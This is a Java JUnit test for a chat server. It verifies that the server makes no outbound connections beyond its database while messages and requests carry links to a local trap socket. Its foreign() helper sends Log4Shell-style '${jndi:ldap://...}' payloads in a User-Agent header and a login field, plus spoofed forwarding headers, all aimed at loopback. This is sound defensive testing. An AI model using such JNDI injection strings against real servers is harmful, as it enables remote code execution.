package org.entente.faults;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ConcurrentSkipListSet;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;

/**
 * Nothing leaves by itself: while people talk and name addresses in every place where an address can stand, the process of the server holds connections to
 * its clients and to its database and to nobody else, as the kernel lists them; and at the addresses nobody calls.
 */
@EnabledOnOs(OS.LINUX)
class OutboundTest {
    private static final int MESSAGES = 40;

    @Test
    void while_people_talk_the_server_calls_nobody_but_its_database(@TempDir Path directory) throws Exception {
        int port = freePort();
        AtomicInteger calls = new AtomicInteger();
        ConcurrentSkipListSet<String> others = new ConcurrentSkipListSet<>();
        try (ServerSocket trap = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            count(trap, calls);
            ServerProcess server = ServerProcess.launch(directory.resolve("data"), port);
            try {
                server.awaitReady();
                CompletableFuture<Void> talk =
                        CompletableFuture.runAsync(() -> talk(server, port, trap.getLocalPort()));
                Set<Integer> database = server.databasePorts();
                int looks = 0;
                while (!talk.isDone()) {
                    others.addAll(server.connections().stream()
                            .filter(connection -> connection.localPort() != port)
                            .filter(connection -> !database.contains(connection.remotePort()))
                            .map(ProcessConnections.Connection::toString)
                            .toList());
                    looks++;
                    java.util.concurrent.locks.LockSupport.parkNanos(TimeUnit.MILLISECONDS.toNanos(5));
                }
                talk.get(1, TimeUnit.SECONDS);
                assertFalse(server.connections().isEmpty(), "the look at the process is blind");
                assertFalse(looks < 10, "it looked " + looks + " times only");
            } finally {
                server.stop();
            }
        }
        assertEquals(Set.of(), others);
        assertEquals(0, calls.get(), "somebody called an address that was only written down");
    }

    private static void talk(ServerProcess server, int port, int trap) {
        try {
            URI address = URI.create("http://127.0.0.1:" + port);
            String evil = "http://127.0.0.1:" + trap + "/";
            Account kadri = Account.founds(address, server.foundingSecret(), "Kadri Tamm");
            Account minjun = kadri.admits(evil);
            String channel = kadri.opens(evil, List.of(minjun));
            for (int i = 0; i < MESSAGES; i++) {
                String text = "Look at " + evil + i + " and ![a picture](" + evil + i + ".png)";
                minjun.says(new Recording.Sent(UUID.randomUUID().toString(), channel, text))
                        .get(10, TimeUnit.SECONDS)
                        .ok();
                foreign(address, evil);
            }
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    /** Addresses where a server that resolves, reports or calls back would find them. */
    private static void foreign(URI address, String evil) throws IOException, InterruptedException {
        HttpRequest request = HttpRequest.newBuilder(address.resolve("/api/session"))
                .header("Content-Type", "application/json")
                .header("Referer", evil)
                .header("X-Forwarded-For", "127.0.0.1")
                .header("X-Forwarded-Host", evil)
                .header("User-Agent", "${jndi:ldap://" + evil.substring("http://".length()) + "}")
                .POST(HttpRequest.BodyPublishers.ofString("{\"login\":\"${jndi:ldap://"
                        + evil.substring("http://".length()) + "}\",\"password\":\"" + evil + "\"}"))
                .build();
        Account.CLIENT.send(request, HttpResponse.BodyHandlers.discarding());
    }

    private static void count(ServerSocket trap, AtomicInteger calls) {
        Thread thread = new Thread(
                () -> {
                    while (!trap.isClosed()) {
                        try {
                            trap.accept().close();
                            calls.incrementAndGet();
                        } catch (IOException closed) {
                            return;
                        }
                    }
                },
                "trap");
        thread.setDaemon(true);
        thread.start();
    }

    private static int freePort() throws IOException {
        try (ServerSocket socket = new ServerSocket(0)) {
            return socket.getLocalPort();
        }
    }
}
